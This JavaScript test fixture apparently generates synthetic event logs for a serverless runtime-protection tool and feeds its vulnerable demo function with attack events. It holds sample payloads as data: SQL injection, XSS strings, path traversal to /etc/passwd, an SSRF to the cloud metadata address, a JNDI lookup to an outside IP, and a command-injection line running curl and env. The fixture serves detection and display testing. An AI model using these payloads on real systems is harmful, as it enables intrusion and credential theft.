// SPDX-License-Identifier: Apache-2.0
// Logs for a server to show: what functions of three accounts would have written in a week (docs/formats/event.md), always the
// same but for its times; lines in which every text is hostile; and those of a real function that is attacked.
import { execFile } from "node:child_process";
import { mkdtempSync, readFileSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";

/** Numbers below 1 that are the same each time (mulberry32). */
export function randomFrom(state) {
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const letters = "0123456789ABCDEFGHJKMNPQRSTVWXYZ";
export function ulid(time, random) {
  let text = "";
  for (let at = 9; at >= 0; at--) text += letters[Math.floor(time / 32 ** at) % 32];
  for (let at = 0; at < 16; at++) text += letters[Math.floor(random() * 32)];
  return text;
}
const hexadecimal = (random, n) => Array.from({ length: n }, () => Math.floor(random() * 16).toString(16)).join("");
export const uuid = (random) => [8, 4, 4, 4, 12].map((n) => hexadecimal(random, n)).join("-");

/** One sandbox of a function: its lines, numbered. */
export class Sandbox {
  lines = [];
  constructor(row, time, random, start = {}) {
    this.name = hexadecimal(random, 16);
    this.random = random;
    this.add("start", time, {
      version: "0.1.0", mode: row.mode, stance: "open", observe: true, policy: { state: row.mode === "block" ? "loaded" : "none", name: row.name, serial: 4 },
      tiers: { firewall: true, sensor: true, input_sealed: true }, runtime: row.runtime, function: row.name, function_version: row.version ?? "$LATEST", code: row.code, ...start,
    });
  }

  add(kind, time, members) {
    this.lines.push(JSON.stringify({ gambeson: 1, kind, seq: this.lines.length, time: new Date(time).toISOString(), sandbox: this.name, ...members }));
  }

  finding(time, members) {
    this.add("finding", time, { id: ulid(time, this.random), mode: members.action === "blocked" ? "block" : "detect", ...members });
  }
}

export const functions = [
  ["checkout-api", "111122223333", "eu-west-1", "/var/lang/bin/node", "block"], ["order-search", "111122223333", "eu-west-1", "/var/lang/bin/python3.12", "block"],
  ["invoice-render", "111122223333", "eu-west-1", "/var/lang/bin/node", "detect"], ["login", "111122223333", "eu-central-1", "/var/lang/bin/python3.12", "block"],
  ["avatar-resize", "444455556666", "us-east-1", "/var/lang/bin/python3.12", "detect"], ["webhook-in", "444455556666", "us-east-1", "/var/lang/bin/node", "block"],
  ["report-mailer", "444455556666", "us-east-1", "/var/lang/bin/java", "detect"], ["csv-import", "777788889999", "eu-west-1", "/var/lang/bin/ruby", "detect"],
  ["stock-sync", "777788889999", "eu-west-1", "/var/task/bootstrap", "detect"], ["partner-feed", "777788889999", "eu-west-1", "/var/lang/bin/dotnet", "off"],
].map(([name, account, region, runtime, mode], at) => ({ name, account, region, runtime, mode, code: `c0de${at}`.repeat(5) }));

const RUNTIME = { pid: 12, path: "/var/lang/bin/node", arguments: ["node", "/var/runtime/index.mjs", "index.handler"] };
const SHELL = { pid: 214, path: "/bin/sh", arguments: ["/bin/sh", "-c", "curl --silent -L http://files.example/a.doc;env # | catdoc -"] };

// What attacks look like: [type, class, control, severity, reason, message, input, activity, attack, cwe, weight]
const attacks = [
  { type: "SQL Injection Attack", class: "sqli", control: "firewall", severity: "critical", reason: "sql_tautology", confidence: "high", attack: ["T1190"], cwe: 89, weight: 5,
    path: "queryStringParameters.q", origin: "query", value: "boots' OR 1=1 -- x", bad: "' OR 1=1 --" },
  { type: "Command Injection Attack", class: "cmdi", control: "flow", severity: "critical", reason: "flow_shell_command", confidence: "high", attack: ["T1059.004"], cwe: 78, weight: 3,
    path: "queryStringParameters.document_url", origin: "query", value: "http://files.example/a.doc;env #", bad: ";env", says: "`queryStringParameters.document_url` made the shell run `env`",
    activity: { kind: "process_start", subject: "/bin/sh", arguments: ["/bin/sh", "-c", "curl --silent -L http://files.example/a.doc;env # | catdoc -"], pid: 214 }, processes: [RUNTIME] },
  { type: "Cross Site Scripting Attack", class: "xss", control: "firewall", severity: "high", reason: "html_event_handler", confidence: "high", attack: ["T1190"], cwe: 79, weight: 4,
    path: "body.comment", origin: "body", value: "Nice <img src=x onerror=alert(document.cookie)> shop", bad: "<img src=x onerror=alert(document.cookie)>" },
  { type: "File Inclusion Attack", class: "lfi", control: "flow", severity: "high", reason: "flow_path", confidence: "high", attack: ["T1083", "T1552.001"], cwe: 22, weight: 2,
    path: "queryStringParameters.template", origin: "query", value: "../../../../etc/passwd", bad: "../../../../etc/passwd", says: "`queryStringParameters.template` chose the file `/etc/passwd`",
    activity: { kind: "file_read", subject: "/etc/passwd", arguments: [], pid: 12 } },
  { type: "Server Side Request Forgery Attack", class: "ssrf", control: "flow", severity: "critical", reason: "flow_address", confidence: "high", attack: ["T1552.005"], cwe: 918, weight: 1,
    path: "body.callback", origin: "body", value: "http://169.254.169.254/latest/meta-data/", bad: "169.254.169.254", says: "`body.callback` chose the address 169.254.169.254",
    activity: { kind: "connect", subject: "169.254.169.254:80", arguments: [], pid: 12 } },
  { type: "NoSQL Injection Attack", class: "nosqli", control: "firewall", severity: "high", reason: "mongo_operator", confidence: "medium", attack: ["T1190"], cwe: 943, weight: 1,
    path: "body.password", origin: "body", value: '{"$ne":null}', bad: '{"$ne":null}' },
  { type: "JNDI Lookup Attack", class: "jndi", control: "firewall", severity: "critical", reason: "jndi_lookup", confidence: "high", attack: ["T1190"], cwe: 917, weight: 1,
    path: "headers.User-Agent", origin: "header", value: "${jndi:ldap://203.0.113.9/a}", bad: "${jndi:ldap://203.0.113.9/a}" },
  { type: "Process Event", class: "process_start", control: "allowlist", severity: "medium", reason: "not_learned", attack: ["T1059"], weight: 2,
    says: "`/usr/bin/id` is not in the allowlist", activity: { kind: "process_start", subject: "/usr/bin/id", arguments: ["id", "-u"], pid: 230 }, processes: [{ pid: 229 }, RUNTIME] },
  { type: "Host Event", class: "name_lookup", control: "allowlist", severity: "medium", reason: "not_learned", attack: ["T1071"], weight: 1,
    says: "`telemetry.example.net` is not in the allowlist", activity: { kind: "name_lookup", subject: "telemetry.example.net", arguments: [], pid: 12 } },
];
const pool = attacks.flatMap((attack) => Array.from({ length: attack.weight }, () => attack));
const attackers = ["198.51.100.23", "198.51.100.23", "198.51.100.77", "203.0.113.9", "203.0.113.200", "192.0.2.14", "2001:db8::bad:cafe"];

/** One finding of what ATTACK is, as the agent tells it. */
export function findingOf(attack, action) {
  const { type, class: kind, control, severity, reason, confidence, says, activity, processes, cwe } = attack;
  const input = attack.path && { path: attack.path, origin: attack.origin, value: attack.value, from: Buffer.from(attack.value.slice(0, attack.value.indexOf(attack.bad))).length, length: Buffer.from(attack.bad).length };
  return {
    type, class: kind, control, action, severity, reason, ...(confidence ? { confidence } : {}), message: says ?? `\`${attack.path}\` holds \`${attack.bad}\``,
    ...(input ? { input } : {}), ...(activity ? { activity } : {}), ...(processes ? { processes } : {}), attack: attack.attack, ...(cwe ? { cwe } : {}),
  };
}

/** {function, log}: a week up to NOW. */
export function week(now, random = randomFrom(7)) {
  const day = 86400000;
  return functions.filter(({ mode }) => mode !== "off").map((row, at) => {
    const sandbox = new Sandbox(row, now - 7 * day + at * 60000, random);
    const times = Array.from({ length: 10 + 12 * (9 - at) }, () => now - random() ** 1.6 * 6.9 * day - 90000).sort((a, b) => a - b);
    for (const time of times) {
      const request = uuid(random);
      const source_ip = attackers[Math.floor(random() * attackers.length)];
      const action = row.mode === "block" && random() < 0.93 ? "blocked" : "observed";
      const attack = pool[Math.floor(random() * pool.length)];
      sandbox.finding(time, { ...findingOf(attack, action), request, source_ip });
      if (attack.control === "flow" && action === "observed" && attack.activity.kind === "process_start") {
        sandbox.finding(time + 14, { ...findingOf(attacks[7], action), request, source_ip, activity: { kind: "process_start", subject: "/usr/bin/env", arguments: ["env"], pid: 215 }, processes: [SHELL, RUNTIME], message: "`/usr/bin/env` is not in the allowlist" });
        sandbox.finding(time + 31, { ...findingOf(attacks[8], action), request, source_ip });
      }
    }
    sandbox.add("progress", now - 60000, { invocations: 400 * (at + 1), shapes: { api_gateway_v1: 400 * (at + 1) } });
    return { row, log: sandbox.lines.join("\n") + "\n" };
  });
}

/** Texts that must be shown and never run: markup, scripts, controls, what turns the direction of text, what is very long. */
export const hostile = [
  "<img src=x onerror=alert(1)>", "\"><script>alert(2)</script>", "javascript:alert(3)", "</script><svg onload=alert(4)>", "'; DROP TABLE events; --",
  "\u0001\u001b[31mred\u0007\u0008", "abc\u202egnp.exe\u202c\u2066x", "\u200b\ufeffhid\u00adden", "${7*7}{{7*7}}", "*a* _b_ `c` <b>d</b> [e](javascript:alert(5))",
];

/** A log of a function where each text is one of these. */
export function hostileLog(now, random = randomFrom(11)) {
  const sandbox = new Sandbox({ name: hostile[0], runtime: hostile[1], mode: "detect", code: hostile[3] }, now - 120000, random, { version: hostile[4] });
  hostile.forEach((text, at) => {
    const turn = (n) => hostile[(at + n) % hostile.length];
    sandbox.finding(now - 60000 + at * 100, {
      type: turn(1), class: turn(2), control: turn(3), action: "observed", severity: "high", reason: turn(4), confidence: turn(5), message: `says ${text}`,
      input: { path: turn(1), origin: turn(2), value: `${turn(3)}${text}${turn(4)}`, from: Buffer.from(turn(3)).length, length: Buffer.from(text).length },
      activity: { kind: turn(6), subject: turn(7), object: turn(8), arguments: [text, turn(1), turn(9)], pid: 9 },
      processes: [{ pid: 9, path: turn(3), arguments: [turn(4), text] }, { pid: 8 - at, path: turn(5) }, { pid: 9, path: turn(6) }], rule: { name: turn(2), reason: turn(5) },
      attack: [turn(1), "T1059.004"], cwe: 79, source_ip: turn(0), request: turn(3),
    });
  });
  const long = "<b>A</b>".repeat(30) + "B".repeat(3000);
  sandbox.finding(now - 51000, {
    type: "T".repeat(64), class: "c".repeat(64), control: "firewall", action: "observed", severity: "high", reason: "r".repeat(64), message: long,
    input: { path: `body.${"p".repeat(200)}`, origin: "body", value: long, from: 200, length: 2500 }, activity: { kind: "process_start", subject: long, arguments: [long], pid: 9 },
    attack: ["T1059"], cwe: 79, source_ip: "9".repeat(200), request: "q".repeat(200),
  });
  sandbox.finding(now - 50000, { type: "Process Event", class: "process_start", control: "allowlist", action: "observed", severity: "low", reason: "x", message: "odd shapes",
    input: "no object", activity: ["no", "object"], attack: "T1", cwe: "79", rule: 5 });
  sandbox.finding(now - 49000, { type: "Process Event", class: "process_start", control: "allowlist", action: "observed", severity: "low", reason: "x", message: "odd numbers",
    input: { path: 7, value: "short", from: -3, length: 99999 }, activity: { kind: "connect", subject: 5, arguments: [1, null, {}] }, processes: [null, "x", { pid: "9" }, { pid: 1e300, path: {}, arguments: 7 }, []] });
  return sandbox.lines.join("\n") + "\n";
}

/** Send a log as a forwarder does. */
export async function ingest(origin, token, log, query = {}) {
  const answer = await fetch(`${origin}/v1/ingest?${new URLSearchParams(query)}`, { method: "POST", headers: { Authorization: `Bearer ${token}`, "Content-Type": "application/octet-stream" }, body: log });
  if (!answer.ok) throw new Error(`ingest: ${answer.status} ${await answer.text()}`);
  return answer.json();
}

export async function ingestWeek(origin, token, now) {
  const sums = { lines: 0, broken: 0 };
  for (const { row, log } of week(now)) {
    const { lines, broken } = await ingest(origin, token, log, { account: row.account, region: row.region, function: row.name });
    sums.lines += lines;
    sums.broken += broken;
  }
  return sums;
}

const run = promisify(execFile);

/** The log of the goat of examples/, attacked with the events of ATTACKS by `gambeson local invoke` in MODE. */
export async function attackGoat(gambeson, root, mode, attacks = /./) {
  const folder = mkdtempSync(join(tmpdir(), "gambeson-goat-"));
  const events = join(root, "examples/goat/events/attack");
  try {
    for (const name of readdirSync(events).filter((name) => attacks.test(name)).sort())
      // What it answers is not of interest here; that an attack is blocked is no failure.
      await run(gambeson, ["local", "invoke", "--code", join(root, "examples/goat"), "--env", "AWS_SESSION_TOKEN=not-a-secret", "--mode", mode, "--timeout", "3",
        "--log", join(folder, name), "--event", join(events, name)]).catch(() => undefined);
    return readdirSync(folder).sort().map((name) => readFileSync(join(folder, name), "utf8")).join("");
  } finally {
    rmSync(folder, { recursive: true });
  }
}
